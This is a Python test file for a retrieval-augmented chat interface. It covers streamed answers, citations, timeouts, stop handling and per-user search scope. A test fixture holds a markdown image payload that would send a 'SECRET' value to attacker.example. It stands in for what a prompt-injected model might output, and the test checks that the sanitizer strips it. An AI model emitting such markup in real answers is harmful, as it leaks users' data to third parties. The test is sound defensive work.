"""Answering in the chat: steps, sanitized streaming, citations, errors and stop."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx2
import openai
import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, AIMessageChunk
from langchain_core.outputs import ChatGenerationChunk

from chains.memory import ChatMemory
from chains.options import SearchOptions
from core.errors import StoreUnavailable
from core.knowledge import AccessScope
from core.resources import Resources
from tests.conftest import make_settings
from tests.fakes import InMemoryKnowledgeBase
from tests.markdown_view import active_constructs, visible_text
from tests.ui.conftest import RecordingEmitter
from ui.conversation import WAITING_FOR_MODEL, access_scope, answer_question
from ui.runtime import ChatServices

SCOPE = AccessScope.everything()

INJECTED = (
    "Apples [1]. ![tracker](https://attacker.example/c?q=SECRET) and [see](https://x.example)"
)


def resources(kb: InMemoryKnowledgeBase, model: Any) -> ChatServices:
    settings = make_settings(Path("/nonexistent"))
    return ChatServices.build(
        Resources(settings=settings, embeddings=kb.embeddings, kb=kb, chat_model=model)
    )


def final_message(events: RecordingEmitter) -> dict[str, Any]:
    messages = [
        m
        for m in events.of("new_message") + events.of("update_message")
        if m.get("type") == "assistant_message" and not m.get("isError")
    ]
    last: dict[str, Any] = messages[-1]
    return last


class PacedModel(GenericFakeChatModel):
    """A fake model that streams at a human-visible pace (so updates are not coalesced)."""

    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
        async for chunk in super()._astream(*args, **kwargs):
            await asyncio.sleep(0.05)
            yield chunk


async def test_answer_streams_sanitized_with_cited_elements(
    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
) -> None:
    model = PacedModel(messages=iter([AIMessage(INJECTED)]))
    memory = ChatMemory()
    await answer_question(
        resources(memory_kb, model), "alpha text about apples", memory, SearchOptions(k=3), SCOPE
    )
    streamed = chainlit_events.streamed_texts()
    assert len(streamed) > 3
    for text in streamed:  # no partial answer ever holds an active image or link
        assert active_constructs(text) == [], text
    final = final_message(chainlit_events)["output"]
    assert visible_text(final) == "Apples [1]. [image removed: tracker] and see"
    assert active_constructs(final) == []
    elements = chainlit_events.of("element")
    assert [e["name"] for e in elements] == ["[1]"]
    steps = [s for s in chainlit_events.of("update_message") if s.get("type") == "retrieval"]
    assert "Found 3 passages" in steps[-1]["output"]
    assert len(memory) == 1


class FailingModel(GenericFakeChatModel):
    """Streams a few tokens, then fails as a timed-out OpenAI call would."""

    def _stream(self, *args: Any, **kwargs: Any) -> Iterator[ChatGenerationChunk]:
        raise NotImplementedError

    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
        yield ChatGenerationChunk(message=AIMessageChunk(content="Partial"))
        raise openai.APITimeoutError(request=httpx2.Request("POST", "http://model/v1"))


async def test_a_model_failure_mid_answer_keeps_the_text_and_adds_the_passages(
    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
) -> None:
    memory = ChatMemory()
    model = FailingModel(messages=iter([]))
    await answer_question(resources(memory_kb, model), "alpha", memory, SearchOptions(), SCOPE)
    assert [m for m in chainlit_events.of("new_message") if m.get("isError")] == []
    final = visible_text(final_message(chainlit_events)["output"])
    assert final.startswith("Partial (The answer was cut off: The language model did not")
    assert "The passages it was based on: [1] " in final
    assert len(memory) == 0  # a failed answer is not the model's to remember
    assert "[1]" in [e["name"] for e in chainlit_events.of("element")]

    good = GenericFakeChatModel(messages=iter([AIMessage("Fine now [1].")]))
    await answer_question(resources(memory_kb, good), "alpha", memory, SearchOptions(), SCOPE)
    assert final_message(chainlit_events)["output"] == "Fine now [1]."


class HungModel(GenericFakeChatModel):
    """Never sends a token."""

    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
        await asyncio.sleep(3600)
        yield ChatGenerationChunk(message=AIMessageChunk(content="never"))


async def test_the_answer_waits_visibly_then_falls_back_to_the_passages(
    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
) -> None:
    services = resources(memory_kb, HungModel(messages=iter([])))
    services = ChatServices.build(
        replace(services.resources, settings=make_settings(Path("/x"), model_answer_budget=0.5))
    )
    await answer_question(services, "alpha", ChatMemory(), SearchOptions(), SCOPE)
    streamed = chainlit_events.streamed_texts()
    assert streamed[0] == WAITING_FOR_MODEL
    final = visible_text(final_message(chainlit_events)["output"])
    assert final.startswith(
        "The language model could not answer: The language model did not answer within "
        "the 0.5 s allowed for an answer. Here are the most relevant passages instead."
    )
    assert "passages instead. [1] " in final
    assert [m for m in chainlit_events.of("new_message") if m.get("isError")] == []


async def test_store_failure_becomes_a_message(
    memory_kb: InMemoryKnowledgeBase,
    chainlit_events: RecordingEmitter,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def down(*args: Any, **kwargs: Any) -> Any:
        raise StoreUnavailable("Could not search the knowledge base right now.")

    monkeypatch.setattr(memory_kb, "search", down)
    model = GenericFakeChatModel(messages=iter([AIMessage("unused")]))
    await answer_question(
        resources(memory_kb, model), "alpha", ChatMemory(), SearchOptions(), SCOPE
    )
    errors = [m["output"] for m in chainlit_events.of("new_message") if m.get("isError")]
    assert errors == ["Could not search the knowledge base right now."]
    failed_steps = [s for s in chainlit_events.of("update_message") if s.get("isError")]
    assert failed_steps and failed_steps[-1]["output"].startswith("Failed:")


class SlowModel(GenericFakeChatModel):
    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
        for word in ["One", " two", " three"]:
            yield ChatGenerationChunk(message=AIMessageChunk(content=word))
        await asyncio.sleep(30)
        yield ChatGenerationChunk(message=AIMessageChunk(content=" never"))


async def test_stop_ends_the_stream_cleanly(
    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
) -> None:
    memory = ChatMemory()
    task = asyncio.create_task(
        answer_question(
            resources(memory_kb, SlowModel(messages=iter([]))),
            "alpha",
            memory,
            SearchOptions(),
            SCOPE,
        )
    )
    await asyncio.wait_for(chainlit_events.streaming.wait(), timeout=30)
    await asyncio.sleep(0.1)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    final = final_message(chainlit_events)["output"]
    assert final.startswith("One two three") and final.endswith("*(stopped)*")
    assert len(memory) == 0


def test_the_search_scope_comes_from_the_session_user() -> None:
    mine = access_scope("ada", SearchOptions(), "chat-1")
    assert mine == AccessScope.for_user("ada")
    chat_only = access_scope("ada", SearchOptions(scope="chat"), "chat-1")
    assert chat_only == AccessScope.for_user("ada").in_chat("chat-1")


async def test_the_answer_searches_with_the_scope_it_is_given(
    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
) -> None:
    model = GenericFakeChatModel(messages=iter([AIMessage("Dates [1].")]))
    scope = AccessScope.for_user("bob")
    await answer_question(
        resources(memory_kb, model), "alpha text about apples", ChatMemory(), SearchOptions(), scope
    )
    assert [r.scope for r in memory_kb.searches] == [scope]
    steps = [s for s in chainlit_events.of("update_message") if s.get("type") == "retrieval"]
    assert "a.txt" not in steps[-1]["output"]  # alice's upload is not bob's to see
